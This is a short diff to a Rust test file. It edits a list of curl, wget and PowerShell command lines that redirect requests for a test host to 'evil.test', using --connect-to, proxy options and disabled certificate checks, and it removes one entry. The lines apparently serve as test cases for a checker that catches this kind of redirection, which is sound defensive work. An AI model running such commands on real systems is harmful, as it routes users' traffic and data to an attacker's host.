@@ -364,7 +364,7 @@ fn no_line_of_a_batch_takes_it_elsewhere() {
 }
 
 /// Lines to `https://a.test`, or `http://plain.test`, that another host may read. Each has the option that lets it.
-const OTHER_WAYS: [(&str, &str); 20] = [
+const OTHER_WAYS: [(&str, &str); 19] = [
     (
         "curl -k --connect-to a.test:443:evil.test:443 https://a.test/x",
         "--connect-to",
@@ -396,10 +396,6 @@ const OTHER_WAYS: [(&str, &str); 20] = [
     ),
     (
         "wget --no-check-certificate -e https_proxy=evil.test https://a.test/x",
-        "--proxy",
-    ),
-    (
-        "irm https://a.test/x -SkipCertificateCheck -Proxy http://evil.test",
         "--proxy",
     ),
     ("```sh\ncurl -k -x evil.test https://a.test/x\n```", "--proxy"),
